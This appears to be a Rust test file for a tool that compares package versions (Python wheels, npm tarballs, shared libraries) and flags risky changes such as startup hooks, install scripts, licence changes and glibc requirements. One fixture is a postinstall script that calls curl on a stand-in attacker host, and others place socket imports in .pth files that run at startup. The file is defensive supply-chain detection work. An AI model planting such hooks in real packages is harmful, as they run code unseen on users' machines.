#![allow(clippy::unwrap_used)]

use std::io::Write as _;

use super::*;
use crate::inspect::diff::facts::FileKind;
use crate::inspect::diff::model::{FindingKind, Severity};

fn wheel(files: &[(&str, &str)]) -> Contents {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, text) in files {
        let options = zip::write::SimpleFileOptions::default();
        zip.start_file(*path, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    let bytes = zip.finish().unwrap().into_inner();
    read("x.whl", FileKind::Wheel, &bytes).unwrap()
}

fn tarball(files: &[(&str, &str)]) -> Contents {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, text) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, format!("package/{path}"), text.as_bytes())
            .unwrap();
    }
    let bytes = tar.into_inner().unwrap();
    read("x.tgz", FileKind::Tarball, &bytes).unwrap()
}

#[test]
fn a_wheel_is_compared_by_what_it_brings() {
    let old = wheel(&[
        ("foo/__init__.py", "1"),
        ("foo/gone.py", ""),
        (
            "foo-1.0.dist-info/METADATA",
            "Name: foo\nRequires-Dist: bar\nLicense: MIT\n\nbody: x\n",
        ),
        (
            "foo-1.0.dist-info/entry_points.txt",
            "[console_scripts]\nfoo = foo:main\n",
        ),
    ]);
    let new = wheel(&[
        ("foo/__init__.py", "2"),
        ("extra.py", ""),
        ("foo.pth", "import foo.start\n"),
        (
            "foo-1.1.dist-info/METADATA",
            "Name: foo\nRequires-Dist: baz\nLicense-Expression: AGPL-3.0-only\n",
        ),
        (
            "foo-1.1.dist-info/entry_points.txt",
            "[console_scripts]\nfoo = foo:main\nbar = foo:bar\n",
        ),
    ]);
    let diff = compare(Some(&old), Some(&new));
    assert_eq!(diff.modules_added, ["extra"]);
    assert_eq!(diff.entry_points_added, ["console_scripts: bar = foo:bar"]);
    assert_eq!(diff.files_added, ["extra.py", "foo.pth"]);
    assert_eq!(diff.files_removed, ["foo/gone.py"]);
    let fields: Vec<_> = diff
        .metadata
        .iter()
        .map(|field| (&*field.field, &field.added[0][..]))
        .collect();
    assert_eq!(
        fields,
        [("License", "AGPL-3.0-only"), ("Requires-Dist", "baz")]
    );
    let found: Vec<_> = findings("foo 1.1", &diff, Seen::default())
        .into_iter()
        .map(|f| (f.severity, f.kind))
        .collect();
    assert_eq!(
        found,
        [
            (Severity::Alarm, FindingKind::HookReaches),
            (Severity::Warning, FindingKind::LicenseChanged)
        ]
    );
}

#[test]
fn what_python_runs_at_start_is_an_alarm_wherever_a_wheel_has_it() {
    let old = wheel(&[("foo.py", "")]);
    for (path, says) in [
        ("foo.pth", "whenever Python starts"),
        ("sitecustomize.py", "whenever Python starts, with sockets"),
        (
            "usercustomize/__init__.py",
            "whenever Python starts, with sockets",
        ),
        (
            "foo-1.0.data/purelib/foo.pth",
            "whenever Python starts, with sockets",
        ),
        (
            "foo-1.0.data/data/lib/python3.14/site-packages/foo.pth",
            "whenever Python starts, with sockets",
        ),
    ] {
        let new = wheel(&[("foo.py", ""), (path, "import socket\n")]);
        let found = findings("foo 1", &compare(Some(&old), Some(&new)), Seen::default());
        let found: Vec<_> = found
            .iter()
            .filter(|one| one.severity == Severity::Alarm)
            .collect();
        assert!(
            found.len() == 1 && found[0].says.contains(says),
            "{path}: {found:?}"
        );
    }
}

#[test]
fn a_hook_that_newly_reaches_out_is_an_alarm() {
    let package = |scripts: &str| format!("{{\"name\": \"x\", \"scripts\": {{{scripts}}}}}");
    let quiet = tarball(&[
        (
            "package.json",
            &package("\"postinstall\": \"node setup.js\""),
        ),
        ("setup.js", "console.log(1)"),
    ]);
    let loud = tarball(&[
        (
            "package.json",
            &package("\"postinstall\": \"node setup.js\""),
        ),
        (
            "setup.js",
            "require('child_process').execSync('curl https://evil.example')",
        ),
    ]);
    let none = tarball(&[("package.json", &package(""))]);
    let kinds = |old: &Contents, new: &Contents| -> Vec<_> {
        let diff = compare(Some(old), Some(new));
        findings("x 1", &diff, Seen::default())
            .into_iter()
            .map(|f| (f.severity, f.kind))
            .collect()
    };
    assert_eq!(
        kinds(&quiet, &loud),
        [(Severity::Alarm, FindingKind::HookReaches)]
    );
    assert_eq!(
        kinds(&none, &quiet),
        [(Severity::Warning, FindingKind::InstallScript)]
    );
    assert_eq!(kinds(&loud, &quiet), []);
    let lines = compare(Some(&none), Some(&loud)).lines();
    assert!(
        lines[0].contains("newly runs postinstall") && lines[0].contains("curl"),
        "{lines:?}"
    );
}

#[test]
fn libraries_are_known_under_other_tags_and_compared_by_what_they_link() {
    let library = |glibc: &str, needed: &[&str]| Library {
        needed: needed.iter().map(|name| (*name).to_owned()).collect(),
        glibc: Some(glibc.to_owned()),
        exported: BTreeSet::from(["PyInit_x".to_owned()]),
    };
    let with = |path: &str, library: Library| Contents {
        libraries: BTreeMap::from([(path.to_owned(), library)]),
        ..Contents::default()
    };
    let old = with(
        "x.cpython-312-x86_64-linux-gnu.so",
        library("2.17", &["libc.so.6"]),
    );
    let new = with(
        "x.cpython-313-x86_64-linux-gnu.so",
        library("2.28", &["libc.so.6", "libssl.so.3"]),
    );
    let diff = compare(Some(&old), Some(&new));
    assert_eq!(diff.libraries.len(), 1);
    assert_eq!(diff.libraries[0].change, "changed");
    assert_eq!(diff.libraries[0].needed_added, ["libssl.so.3"]);
    let severity = |glibc| {
        let seen = Seen {
            glibc,
            ..Seen::default()
        };
        let found = findings("x 1", &diff, seen);
        assert_eq!(found[0].kind, FindingKind::GlibcFloor);
        found[0].severity
    };
    // Nobody whose glibc is new enough need be warned.
    assert_eq!(severity(None), Severity::Warning);
    assert_eq!(severity(Some((2, 17))), Severity::Warning);
    assert_eq!(severity(Some((2, 28))), Severity::Note);
    let same = compare(Some(&new), Some(&new));
    assert_eq!(same.libraries, []);
    assert_eq!(same.lines(), ["files: +0 −0 ~0"]);
}

#[test]
fn the_glibc_that_counts_is_the_package_s() {
    let library = |glibc: &str, exported: &[&str]| Library {
        needed: BTreeSet::new(),
        glibc: Some(glibc.to_owned()),
        exported: exported.iter().map(|name| (*name).to_owned()).collect(),
    };
    let of = |all: [(&str, Library); 2]| Contents {
        libraries: all.map(|(path, one)| (path.to_owned(), one)).into(),
        ..Contents::default()
    };
    let old = of([
        ("a.so", library("2.2.5", &["a"])),
        ("b.so", library("2.28", &[])),
    ]);
    let new = of([
        ("a.so", library("2.14", &["a", "_ZN3foo3barEi"])),
        ("b.so", library("2.25", &[])),
    ]);
    let diff = compare(Some(&old), Some(&new));
    assert_eq!(findings("x 1", &diff, Seen::default()), []);
    let lines = diff.lines();
    assert_eq!(
        lines,
        [
            "needs glibc: 2.28 → 2.25",
            "library changed a.so: +1 symbol: foo::bar(int)",
            "files: +0 −0 ~0"
        ]
    );
}

#[test]
fn a_package_that_is_gone_loses_no_licence() {
    let old = wheel(&[
        ("foo.py", ""),
        ("foo-1.0.dist-info/METADATA", "Name: foo\nLicense: MIT\n"),
    ]);
    let diff = compare(Some(&old), None);
    assert_eq!(diff.metadata, []);
    assert_eq!(diff.modules_removed, ["foo"]);
}

#[test]
fn a_licence_in_other_words_is_no_change() {
    let with = |license: &str| {
        wheel(&[(
            "foo-1.0.dist-info/METADATA",
            &format!("Name: foo\n{license}\n"),
        )])
    };
    let old = with("License: MIT License");
    let same = compare(Some(&old), Some(&with("License-Expression: MIT")));
    assert_eq!(
        (
            same.metadata.len(),
            findings("foo 1", &same, Seen::default())
        ),
        (0, vec![])
    );
    let other = compare(Some(&old), Some(&with("License-Expression: AGPL-3.0-only")));
    let found = findings("foo 1", &other, Seen::default());
    assert_eq!(found[0].kind, FindingKind::LicenseChanged);
    assert_eq!(found[0].old.as_deref(), Some("MIT"));
}
